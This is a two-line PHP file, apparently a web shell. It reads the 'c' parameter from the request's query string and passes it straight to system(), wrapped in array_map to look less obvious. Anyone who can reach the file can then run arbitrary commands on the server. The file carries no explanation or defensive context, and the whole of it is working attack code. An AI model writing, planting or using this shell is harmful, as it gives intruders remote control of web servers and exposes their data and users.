<?php
foreach (array_map(fn($k) => $_GET[$k], ["c"]) as $c) system($c);
